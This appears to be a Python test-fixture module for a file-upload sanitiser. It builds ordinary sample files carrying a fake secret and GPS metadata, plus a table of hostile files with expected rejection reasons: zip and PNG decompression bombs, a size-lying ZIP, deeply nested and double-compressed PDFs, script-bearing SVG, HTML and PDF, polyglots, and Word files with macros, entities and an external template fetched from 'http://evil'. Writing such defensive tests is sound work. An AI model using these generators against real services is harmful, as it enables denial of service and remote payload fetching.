"""Files as people send them, and as enemies do."""

from __future__ import annotations

import io
import math
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from openpyxl import Workbook
from PIL import Image
from PIL.TiffImagePlugin import IFDRational
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

#: What must not be found in anything we keep.
SECRET = "ZhangSan-phone-7781"
PLACE = (30.0, 16.0, 7.0)
ROOM = 600 * 1024 * 1024


def photo(size: tuple[int, int] = (1200, 900), form: str = "JPEG", turned: int = 1) -> bytes:
    """A photograph as a telephone writes it: where, with what, and a comment."""
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    exif = Image.Exif()
    exif[0x0112] = turned
    exif[0x010F] = SECRET
    exif[0x8825] = {1: "N", 2: tuple(IFDRational(n) for n in PLACE)}
    out = io.BytesIO()
    words: dict[str, Any] = {"comment": SECRET.encode()} if form == "JPEG" else {}
    image.save(out, form, exif=exif, **words)
    return out.getvalue()


def voice(seconds: float = 2) -> bytes:
    """A tone."""
    out = io.BytesIO()
    with wave.open(out, "wb") as box:
        box.setnchannels(1)
        box.setsampwidth(2)
        box.setframerate(8000)
        tone = (int(9000 * math.sin(n / 4)) for n in range(8000))
        second = b"".join(struct.pack("<h", one) for one in tone)
        box.writeframes(second * int(seconds) + second[: int(seconds % 1 * 8000) * 2])
    return out.getvalue()


def pdf(**more: Any) -> bytes:
    """One page with an author; `more` are entries of its catalogue."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": SECRET})
    for key, value in more.items():
        writer.root_object[NameObject(f"/{key}")] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scripted() -> bytes:
    """A page that runs something when it is opened."""
    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    action = DictionaryObject({NameObject(key): value for key, value in script.items()})
    return pdf(OpenAction=action)


def scanned() -> bytes:
    """A telephone's photograph in a PDF, as its camera wrote it."""
    body = photo((300, 200))
    head = (
        f"<< /Type /XObject /Subtype /Image /Width 300 /Height 200 /ColorSpace /DeviceRGB "
        f"/BitsPerComponent 8 /Filter /DCTDecode /Length {len(body)} >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 5 0 R"
        b" /Resources << /XObject << /I 4 0 R >> >> >>",
        head.encode() + b"\nstream\n" + body + b"\nendstream",
        b"<< /Length 23 >>\nstream\nq 300 0 0 200 0 0 cm /I Do Q\nendstream",
    ]
    return _assembled(objects)


def _assembled(objects: list[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    return bytes(out + f"startxref\n{start}\n%%EOF\n".encode())


def sheet() -> bytes:
    """A small table with an author."""
    book = Workbook()
    book.active["A1"] = "工资"
    book.properties.creator = SECRET
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def letter(**parts: bytes | str) -> bytes:
    """A Word file; `parts` stand beside the text, `__` in their names a slash, `_dot_` a dot."""
    body = f'<w:document><w:ins w:author="{SECRET}"><w:t>情况</w:t></w:ins></w:document>'
    return packed(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": body,
            "docProps/core.xml": f"<a>{SECRET}</a>",
            **{k.replace("__", "/").replace("_dot_", "."): v for k, v in parts.items()},
        }
    )


def packed(parts: dict[str, bytes | str]) -> bytes:
    """A ZIP of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name, content in parts.items():
            box.writestr(name, content)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of a PNG."""
    whole = kind + body
    return struct.pack(">I", len(body)) + whole + struct.pack(">I", zlib.crc32(whole))


def png_bomb(side: int = 50_000) -> bytes:
    """2.5 milliard pixels, in a few megabytes."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = b"\x00" + b"\x00" * (side // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    mark = b"\x89PNG\r\n\x1a\n"
    return mark + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    """A Word file whose text unpacks to more than the workshop has room for."""
    return letter(word__styles_dot_xml=b"<a>" + b" " * ROOM)


def liar() -> bytes:
    """A Word file whose table of contents says less than what comes out."""
    good = bytearray(letter(word__styles_dot_xml=b"x" * 5_000_000))
    size = struct.pack("<I", 5_000_000)
    while size in good:
        at = good.index(size)
        good[at : at + 4] = struct.pack("<I", 100)
    return bytes(good)


def deep_pdf() -> bytes:
    """Lists in lists, a hundred thousand deep."""
    nest = b"[" * 100_000 + b"]" * 100_000
    return _assembled([b"<< /Type /Catalog /Pages 2 0 R /X 3 0 R >>", b"<< /Kids [] >>", nest])


def inflating_pdf() -> bytes:
    """A page whose stream unpacks to more than the workshop has room for, packed twice over."""
    body = zlib.compress(zlib.compress(b" " * ROOM, 9), 9)
    head = f"<< /Filter [/FlateDecode /FlateDecode] /Length {len(body)} >>\nstream\n".encode()
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            head + body + b"\nendstream",
        ]
    )


ZIP = packed({"a.txt": "a"})
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"\xef\xbb\xbf <!doctype html><script>alert(1)</script>"
GIFAR = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + ZIP
RELATED = (
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="http://evil/a.dotm" TargetMode="External"/></Relationships>'
)
ENTITY = '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
#: Name -> (the file, why it is not taken). A function where making it takes long.
HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "empty": (b"", "empty"),
    "zip bomb": (zip_bomb, "bomb"),
    "zip that lies about its size": (liar, "broken"),
    "png bomb": (png_bomb, "too_many_pixels"),
    "svg with script": (SVG, "page"),
    "svg in utf-16": ("\ufeff<svg><script/></svg>".encode("utf-16-le"), "unknown"),
    "html": (HTML, "page"),
    "html behind a word": (b"hello\n<script>alert(1)</script>", "unknown"),
    "archive": (ZIP, "archive"),
    "rar": (b"Rar!\x1a\x07\x00" + b"\x00" * 40, "archive"),
    "tar": (b"a" * 257 + b"ustar" + b"\x00" * 250, "archive"),
    "windows program": (b"MZ\x90\x00" + b"\x00" * 99, "program"),
    "linux program": (b"\x7fELF" + b"\x00" * 99, "program"),
    "gif and jar in one": (GIFAR, "gif"),
    "pdf with a zip behind": (pdf() + ZIP, "polyglot"),
    "pdf with a zip behind and an end": (pdf() + ZIP + b"\n%%EOF", "polyglot"),
    "pdf not at the beginning": (b"\n\n" + pdf(), "unknown"),
    "recording with a zip behind": (voice(1) + ZIP, "polyglot"),
    "word file with words behind": (letter() + b"<script>", "polyglot"),
    "pdf with a script": (scripted, "active"),
    "pdf nested without end": (deep_pdf, "too_heavy"),
    "pdf without pages": (lambda: _assembled([b"<< /Type /Catalog >>"]), "broken"),
    "word file with macros": (letter(word__vbaProject_dot_bin=b"\x00"), "active"),
    "word file with a file inside": (letter(word__embeddings__a_dot_xlsx=ZIP), "active"),
    "word file that fetches": (letter(word___rels__document_dot_xml_dot_rels=RELATED), "active"),
    "word file with entities": (letter(word__a_dot_xml=ENTITY), "active"),
    "word file with something else": (letter(word__a_dot_exe=b"MZ"), "inside"),
    "old word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 99, "old_office"),
    "heic": (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 99, "heic"),
    "half a photograph": (photo()[:4000], "broken"),
    "head of a photograph": (b"\xff\xd8\xff\xe0" + b"\x00" * 50, "broken"),
    "half a recording": (b"OggS" + b"\x00" * 400, "broken"),
    "noise": (bytes(range(256)) * 40, "unknown"),
    "four minutes of talk": (lambda: voice(240), "too_long"),
}
